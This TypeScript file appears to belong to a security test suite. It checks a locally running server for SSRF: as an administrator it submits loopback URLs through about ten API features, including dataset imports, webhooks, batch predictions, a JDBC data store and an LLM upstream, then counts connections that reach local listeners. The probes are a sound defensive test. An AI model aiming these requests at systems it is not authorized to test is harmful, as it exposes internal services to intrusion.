import { randomBytes } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import type { AttackRun } from '../attack-run.ts';
import { inParallel } from '../http/in-parallel.ts';
import { type Client, parsed } from '../world/client.ts';
import type { World } from '../world/world-types.ts';
import { type Listener, startListener } from './listener.ts';
import { LOOPBACKS, SHORT_LOOPBACKS } from './spellings.ts';

const SETTLES_MS = 3_000;

/** One way from our server to another: makes it call `host:port`. */
interface Way {
  readonly name: string;
  call(host: string, port: number): Promise<unknown>;
}

/** Every way out of the server, towards this machine in every spelling: nobody may arrive. */
export async function attackWithSsrf(run: AttackRun, world: World): Promise<void> {
  if (!['127.0.0.1', 'localhost', '[::1]'].includes(new URL(run.url).hostname))
    return run.report.note('addresses inside: the server runs on another machine, whose loopback cannot be watched');
  const spellings = run.long ? LOOPBACKS : SHORT_LOOPBACKS;
  const listeners = new Map<string, Listener>();
  for (const way of waysOf(world)) {
    const listener = await startListener();
    listeners.set(way.name, listener);
    await inParallel(spellings, 6, async (host) => void (await way.call(host, listener.port).catch(() => undefined)));
  }
  await quiet(listeners);
  for (const [name, listener] of listeners) {
    if (listener.visits.length > 0)
      run.report.finding(
        `${name} reaches this machine from inside (${listener.visits.length} connections)`,
        `${name} to 127.0.0.1 and other spellings: ${spellings.slice(0, 6).join(' ')}`,
        listener.visits.slice(0, 5).join(' '),
      );
    listener.close();
  }
}

/** Waits until nobody new has come for a while: most calls are made by jobs. */
async function quiet(listeners: ReadonlyMap<string, Listener>): Promise<void> {
  const count = () => [...listeners.values()].reduce((sum, { visits }) => sum + visits.length, 0);
  for (let before = -1; before !== count(); ) {
    before = count();
    await pause(SETTLES_MS);
  }
}

/** By an administrator: whatever a member may reach, they may. */
function waysOf({ people: { admin }, things, deploymentId }: World): readonly Way[] {
  const unique = () => `attack-${randomBytes(5).toString('hex')}`;
  const made = async (who: Client, path: string, body: object): Promise<string | undefined> => {
    const { status, text } = await who.send('POST', path, body);
    return status < 300 ? parsed(text).id : undefined;
  };
  const url = (host: string, port: number) => `http://${host}:${port}/x.csv`;
  const driverId = '706f737467726573716c0001';
  return [
    {
      name: 'A dataset by URL',
      call: (host, port) => admin.send('POST', '/api/v2/datasets/fromURL/', { url: url(host, port) }),
    },
    {
      name: 'A prediction dataset by URL',
      call: (host, port) =>
        admin.send('POST', `/api/v2/projects/${things.get('projectId')}/predictionDatasets/urlUploads/`, {
          url: url(host, port),
        }),
    },
    {
      name: 'A project by URL',
      call: (host, port) => admin.send('POST', '/api/v2/projects/', { url: url(host, port), projectName: unique() }),
    },
    {
      name: 'A webhook',
      async call(host, port) {
        const related = { relatedEntityType: 'deployment', relatedEntityId: deploymentId };
        const body = { ...related, name: unique(), channelType: 'Webhook', payloadUrl: url(host, port) };
        const id = await made(admin, '/api/v2/entityNotificationChannels/', body);
        if (id !== undefined)
          await admin.send('POST', `/api/v2/entityNotificationChannels/deployment/${deploymentId}/${id}/tests/`);
      },
    },
    {
      name: 'A workload',
      async call(host, port) {
        const id = await made(admin, '/api/v2/workloads/', { name: unique(), address: url(host, port) });
        if (id === undefined) return;
        await admin.send('POST', `/api/v2/workloads/${id}/start/`);
        await admin.send('GET', `/api/v2/endpoints/workloads/${id}/`);
      },
    },
    {
      name: 'A language-model upstream',
      async call(host, port) {
        const model = `attack/${randomBytes(6).toString('hex')}`;
        const body = { name: unique(), baseUrl: `http://${host}:${port}/v1`, models: [{ model }] };
        if ((await made(admin, '/api/v2/genai/llmgw/upstreams/', body)) === undefined) return;
        const chat = { model, messages: [{ role: 'user', content: 'hello' }] };
        await admin.send('POST', '/api/v2/genai/llmgw/chat/completions/', chat);
      },
    },
    {
      name: 'A data store',
      async call(host, port) {
        const params = { driverId, jdbcUrl: `jdbc:postgresql://${host}:${port}/x` };
        const id = await made(admin, '/api/v2/externalDataStores/', { type: 'jdbc', canonicalName: unique(), params });
        if (id !== undefined)
          await admin.send('POST', `/api/v2/externalDataStores/${id}/test/`, { user: 'u', password: 'p' });
      },
    },
    {
      name: 'Rows of a batch prediction',
      call: (host, port) =>
        admin.send('POST', '/api/v2/batchPredictions/', {
          ...{ deploymentId, intakeSettings: { type: 'http', url: url(host, port) } },
          outputSettings: { type: 'http', url: url(host, port) },
        }),
    },
    {
      name: 'Rows of a batch prediction in S3',
      call: (host, port) =>
        admin.send('POST', '/api/v2/batchPredictions/', {
          deploymentId,
          intakeSettings: { type: 's3', url: 's3://bucket/rows.csv', endpointUrl: `http://${host}:${port}` },
        }),
    },
    {
      name: 'An access-control provider',
      async call(host, port) {
        const at = `https://${host}:${port}`;
        const config = { tenantId: 't', clientId: 'c', clientSecret: 's', graphUrl: at, loginUrl: at };
        const id = await made(admin, '/api/v2/aclConnections/', { name: unique(), provider: 'B', config });
        if (id === undefined) return;
        await admin.send('POST', `/api/v2/aclConnections/${id}/preflight/`);
        await admin.send('DELETE', `/api/v2/aclConnections/${id}/`);
      },
    },
  ];
}
